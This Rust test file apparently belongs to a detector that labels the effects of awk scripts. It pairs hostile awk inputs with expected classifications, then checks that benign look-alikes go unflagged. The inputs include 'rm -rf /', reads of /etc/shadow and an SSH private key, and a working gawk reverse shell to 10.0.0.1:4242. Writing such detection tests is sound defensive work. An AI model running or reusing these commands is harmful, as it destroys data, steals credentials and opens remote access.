// SPDX-License-Identifier: Apache-2.0 OR MIT

use super::check;

#[test]
fn commands_files_and_sockets() {
    check(
        "awk",
        &[
            (r#"BEGIN { system("rm -rf /") }"#, "shell rm -rf /"),
            (r#"{ system("rm " $1) }"#, "shell rm *?"),
            (r#"BEGIN { c = "rm -rf "; system(c "/etc") }"#, "shell rm -rf /etc"),
            (r#"{ print $0 | "sh" }"#, "shell sh"),
            (r#"BEGIN { "id" | getline x; print x }"#, "shell id"),
            (r#"BEGIN { while (("ls" | getline f) > 0) print f }"#, "shell ls"),
            (r#"{ print > "/etc/passwd" }"#, "write /etc/passwd"),
            (r#"{ print $1 >> "out.txt" }"#, "append out.txt"),
            (r#"{ printf "%s\n", $1 > $2 }"#, "write *?"),
            (r#"{ print > ("out/" $1 ".txt") }"#, "write out/*.txt?"),
            (r#"BEGIN { while ((getline line < "/etc/shadow") > 0) print line }"#, "read /etc/shadow"),
            (r#"BEGIN { getline x < (ENVIRON["HOME"] "/.ssh/id_rsa"); print x }"#, "read ~/.ssh/id_rsa"),
            (r"{ $1 | getline y }", "shell *?"),
            (
                r#"BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}"#,
                "connect tcp://10.0.0.1:4242; runs-fetched; shell *?; connect tcp://10.0.0.1:4242; reverse-shell",
            ),
        ],
    );
}

#[test]
fn what_only_looks_like_it() {
    check(
        "awk",
        &[
            ("{ print $1 }", ""),
            (r#"# system("rm")"#, ""),
            (r#"{ print "system(\"rm -rf /\")" }"#, ""),
            ("/system(\"rm\")/ { n++ } END { print n }", ""),
            ("$3 > 10 { print $1, $2 }", ""),
            ("{ if ($1 > 5) print $2; else print $3 }", ""),
            (r#"{ print ($1 > 2) ? "a" : "b" }"#, ""),
            (r#"{ print "error" > "/dev/stderr" }"#, ""),
            ("BEGIN { FS = \":\" } { a[$1] = $2 } END { for (k in a) print k, a[k] }", ""),
        ],
    );
}
